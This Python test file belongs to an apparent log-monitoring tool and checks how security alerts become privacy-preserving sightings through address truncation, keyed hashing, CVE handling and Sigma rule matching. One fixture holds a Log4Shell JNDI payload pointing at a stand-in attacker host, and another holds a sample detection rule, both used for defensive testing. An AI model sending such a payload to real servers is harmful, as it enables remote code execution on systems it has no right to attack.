"""Alerts become sightings (no I/O): privacy, one sighting per rule, sums, nothing of the log."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from sakimori.errors import InvalidInput
from sakimori.monitoring.detectors.interface import Alert, RuleMatch
from sakimori.monitoring.sightings import (
    BUILTIN,
    Privacy,
    Sighting,
    document,
    sightings,
    vulnerability_id,
)
from sakimori.monitoring.sigma import RuleSource, load_rule_paths, load_rule_sources
from sakimori.monitoring.watch import WatchOptions, watch
from tests.conftest import require_data

T0 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
KEY = b"k" * 32
LOG4J = "2021/Exploits/CVE-2021-44228/web_cve_2021_44228_log4j_fields.yml"
#: A Log4Shell attempt in the request target and a quiet request from the same address.
ATTACK = (
    '203.0.113.9 - - [02/Nov/2026:09:00:01 +0000] "GET /?x=${jndi:ldap://evil.example/a} '
    'HTTP/1.1" 404 10 "-" "secret-agent/1.0 user=alice"\n'
    '203.0.113.9 - - [02/Nov/2026:09:00:05 +0000] "GET /private/report.pdf HTTP/1.1" 200 9 '
    '"-" "secret-agent/1.0 user=alice"\n'
)
PACKAGE_RULE = """
title: Exploitation of the example gateway's upload path
id: 6f0d5c1e-4b7a-4c55-8f62-7b1f0e2d9a10
status: experimental
date: 2026-10-01
modified: 2026-10-20
logsource:
    category: webserver
detection:
    selection:
        cs-uri-query|contains: '/gateway/upload.cgi'
    condition: selection
level: high
"""


def alert(
    client: str, *, detector: str = "http-payload", rules: tuple[RuleMatch, ...] = ()
) -> Alert:
    return Alert(
        detector, client, T0, T0 + timedelta(seconds=30), 4, ("line 1: GET /x",), "why", rules
    )


@pytest.mark.parametrize(
    ("address", "mode", "shown"),
    [
        ("203.0.113.9", "full", "203.0.113.9"),
        ("203.0.113.9", "truncate", "203.0.113.0/24"),
        ("2001:db8:1234:5678::1", "truncate", "2001:db8:1234::/48"),
        ("::ffff:203.0.113.9", "truncate", "203.0.113.0/24"),
        ("::ffff:203.0.113.9", "full", "203.0.113.9"),
        ("proxy.internal", "truncate", ""),
        ("proxy.internal", "full", "proxy.internal"),
        ("a client with spaces", "full", ""),
    ],
)
def test_privacy_shows_the_address_as_the_operator_chose(
    address: str, mode: str, shown: str
) -> None:
    assert Privacy(mode, KEY).client(address) == shown


def test_a_keyed_hash_is_stable_per_key_and_says_nothing_without_it() -> None:
    mine, theirs = Privacy("hash", KEY), Privacy("hash", b"o" * 32)
    first = mine.client("203.0.113.9")
    assert first.startswith("hmac-sha256:")
    assert len(first) == len("hmac-sha256:") + 32
    assert mine.client("203.0.113.9") == first == mine.client("::ffff:203.0.113.9")
    assert mine.client("203.0.113.10") != first
    assert theirs.client("203.0.113.9") != first
    with pytest.raises(InvalidInput, match="key"):
        Privacy("hash", b"short")
    with pytest.raises(InvalidInput):
        Privacy("scramble")


def test_vulnerability_ids_are_checked_and_cve_ids_upper_cased() -> None:
    assert vulnerability_id(" cve-2021-44228 ") == "CVE-2021-44228"
    assert vulnerability_id("GHSA-jfh8-c2jp-5v3q") == "GHSA-jfh8-c2jp-5v3q"
    with pytest.raises(InvalidInput):
        vulnerability_id("log4shell")


def test_a_sigma_alert_gives_one_sighting_per_rule_with_its_own_window_and_count() -> None:
    rules = (
        RuleMatch("r1", "Log4Shell", "2023-01-02", "rules/a.yml", ("cve-2021-44228",), T0, T0, 3),
        RuleMatch(
            "r2",
            "Gateway upload",
            "2026-10-20",
            "package:7",
            ("CVE-2099-0001",),
            T0 + timedelta(seconds=9),
            T0 + timedelta(seconds=20),
            1,
        ),
    )
    made = sightings([alert("203.0.113.9", detector="sigma", rules=rules)], Privacy("full"))
    assert [(s.rule, s.source, s.vulnerabilities, s.count) for s in made] == [
        ("r1", "local", ("CVE-2021-44228",), 3),
        ("r2", "package:7", ("CVE-2099-0001",), 1),
    ]
    assert made[1].first_seen == T0 + timedelta(seconds=9)


def test_alerts_of_one_network_and_detector_are_summed() -> None:
    early = alert("203.0.113.9")
    late = Alert(
        "http-payload", "203.0.113.77", T0 + timedelta(hours=1), T0 + timedelta(hours=2), 6,
        (), "why",
    )  # fmt: skip
    other = alert("198.51.100.1")
    made = sightings([early, late, other], Privacy())
    assert [(s.client, s.count, s.first_seen, s.last_seen) for s in made] == [
        ("198.51.100.0/24", 4, T0, T0 + timedelta(seconds=30)),
        ("203.0.113.0/24", 10, T0, T0 + timedelta(hours=2)),
    ]
    assert made[0].source == BUILTIN
    assert made[0].rule == ""
    assert made[0].title == "http-payload"


def test_a_watched_log4shell_attempt_is_a_sighting_of_the_cve_and_nothing_of_the_log(
    tmp_path: Path,
) -> None:
    rule = require_data("weblogs", "sigma", "rules-emerging-threats", *LOG4J.split("/"))
    log = tmp_path / "access.log"
    log.write_text(ATTACK, encoding="utf-8")
    result = watch([log], WatchOptions(sigma_rules=load_rule_paths([rule]).rules))
    made = sightings(result.alerts, Privacy())
    ours = [s for s in made if s.detector == "sigma"]
    assert [(s.rule, s.version, s.vulnerabilities, s.count) for s in ours] == [
        ("9be472ed-893c-4ec0-94da-312d2765f654", "2023-01-02", ("CVE-2021-44228",), 1)
    ]
    assert {s.source for s in made} == {"builtin", "local"}
    text = json.dumps(document(made, Privacy()))
    for secret in ("jndi", "evil.example", "secret-agent", "alice", "report.pdf", "203.0.113.9"):
        assert secret not in text


def test_a_package_rule_carries_the_package_vulnerabilities_into_the_sighting(
    tmp_path: Path,
) -> None:
    load = load_rule_sources([RuleSource("package:7", PACKAGE_RULE, ("CVE-2099-0001",))])
    assert not load.problems
    (rule,) = load.rules
    assert (rule.version, rule.vulnerabilities) == ("2026-10-20", ("CVE-2099-0001",))
    log = tmp_path / "access.log"
    log.write_text(
        '198.51.100.4 - - [02/Nov/2026:09:00:01 +0000] "POST /gateway/upload.cgi HTTP/1.1" 200 '
        '5 "-" "x"\n',
        encoding="utf-8",
    )
    result = watch([log], WatchOptions(sigma_rules=load.rules))
    (made,) = [s for s in sightings(result.alerts, Privacy("hash", KEY)) if s.detector == "sigma"]
    assert made.source == "package:7"
    assert made.vulnerabilities == ("CVE-2099-0001",)
    assert made.client == Privacy("hash", KEY).client("198.51.100.4")


def test_sighting_json_has_exactly_the_fields_the_platform_takes() -> None:
    made = Sighting("203.0.113.0/24", "sigma", "r", "v", "t", "local", ("CVE-1-2",), T0, T0, 1)
    assert set(made.to_json()) == {
        "client", "detector", "rule", "version", "title", "source", "vulnerabilities",
        "first_seen", "last_seen", "count",
    }  # fmt: skip
    assert document([made], Privacy())["privacy"] == "truncate"
